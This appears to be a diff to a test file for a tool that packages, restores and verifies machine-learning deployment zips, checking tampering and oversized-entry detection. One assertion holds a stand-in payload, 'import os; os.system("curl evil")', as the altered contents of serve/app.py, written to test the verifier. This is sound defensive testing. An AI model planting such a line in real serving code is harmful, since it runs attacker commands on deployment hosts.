@@ -16,7 +16,7 @@ import { MANIFEST_NAME, TOOL, type FileRole, type Manifest, type ManifestFile } 
 import { Packages } from '../../src/core/package/packages';
 import { restorePackage, RestoreError } from '../../src/core/package/restore';
 import { describeMismatches, verifyPackage } from '../../src/core/package/verify';
-import { listEntries, openZip, readEntryText, UnsafeZipError } from '../../src/core/package/zipRead';
+import { listEntries, openEntry, openZip, UnsafeZipError } from '../../src/core/package/zipRead';
 import { Cancelled } from '../../src/core/registry/objects';
 import { GateRefusal, type Registry } from '../../src/core/registry/registry';
 import { Workspace } from '../../src/core/workspace';
@@ -135,7 +135,11 @@ async function readZip(file: string): Promise<Map<string, Buffer>> {
   try {
     const { entries } = await listEntries(opened);
     const out = new Map<string, Buffer>();
-    for (const e of entries) out.set(e.name, Buffer.from(await readEntryText(opened, e, 64 * 1024 * 1024), 'utf8'));
+    for (const e of entries) {
+      const chunks: Buffer[] = [];
+      for await (const c of await openEntry(opened, e)) chunks.push(c as Buffer);
+      out.set(e.name, Buffer.concat(chunks)); // bytes as they are: a pickle is not UTF-8
+    }
     return out;
   } finally {
     opened.close();
@@ -289,6 +293,8 @@ describe('deployment packages', function () {
         ['model/MLmodel', 'mlmodel'],
         ['model/input_example.json', 'model'],
         ['model/model.skops', 'model'],
+        // The run's requirements.txt (artifact root), not the conda.yaml of the other model folder
+        // (artifacts/model/) the same run logged: that one describes another model.
         ['model/requirements.txt', 'environment'],
         ['serve/app.py', 'resource'],
       ],
@@ -308,6 +314,8 @@ describe('deployment packages', function () {
         '    - path: train.py\n      hash: md5\n      md5: bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb\n      size: 10\n    outs:\n    - path: model.pkl\n      hash: md5\n      md5: cccccccccccccccccccccccccccccccc\n      size: 80\n',
     );
     writeFile(path.join(proj, 'dvclive', 'metrics.json'), '{"r2": 0.8, "step": 1}\n');
+    // plots/metrics/ is what makes a folder a DVCLive run (a bare metrics.json is not one).
+    writeFile(path.join(proj, 'dvclive', 'plots', 'metrics', 'r2.tsv'), 'step\tr2\n0\t0.7\n1\t0.8\n');
     writeFile(path.join(proj, 'model.pkl'), fakeSklearnPickle());
     const ws = await Workspace.open(folder, { git: false });
     open.push(ws);
@@ -475,7 +483,7 @@ describe('deployment packages', function () {
         data: JSON.stringify({ format: 'mlcycle-package', formatVersion: 1, model: 'm', version: 1, files: [{ path: 'model/weights.bin', sha256: sha(zeros.subarray(0, 1024 * 1024)), size: 1024 * 1024, role: 'model' }] }),
       };
       fs.writeFileSync(zip, craftZip([...entries, manifest]));
-      await assert.rejects(restorePackage(zip, path.join(parent, 'out')), /weights\.bin.*(more than the 1048576 bytes it declares|too many bytes)/);
+      await assert.rejects(restorePackage(zip, path.join(parent, 'out')), /entry model\/weights\.bin holds more than the 1048576 bytes it declares: stopped reading/);
       assert.deepEqual(fs.readdirSync(parent), ['liar.zip']);
     });
   });
@@ -506,7 +514,7 @@ describe('deployment packages', function () {
     assert.deepEqual(describeMismatches(r1), [`✗ altered  model/model.pkl: sha256 ${sha(fakeSklearnPickle())}, the manifest says ${'0'.repeat(64)}`]);
     const r2 = await verifyPackage(altered);
     assert.deepEqual([r2.ok, r2.altered.map((a) => [a.path, a.actual.size, a.expected.size])], [false, [['serve/app.py', 34, 29]]]);
-    assert.deepEqual(describeMismatches(r2), ['✗ altered  serve/app.py: 34 bytes, the manifest says 29']);
+    assert.deepEqual(describeMismatches(r2), [`✗ altered  serve/app.py: 34 bytes, sha256 ${sha('import os; os.system("curl evil")\n')}; the manifest says 29 bytes, sha256 ${sha('def predict(x):\n    return x\n')}`]);
     const r3 = await verifyPackage(missing);
     assert.deepEqual([r3.ok, r3.missing, describeMismatches(r3)], [false, ['Dockerfile'], ['✗ missing  Dockerfile (listed in the manifest, not in the zip)']]);
     const r4 = await verifyPackage(extra);
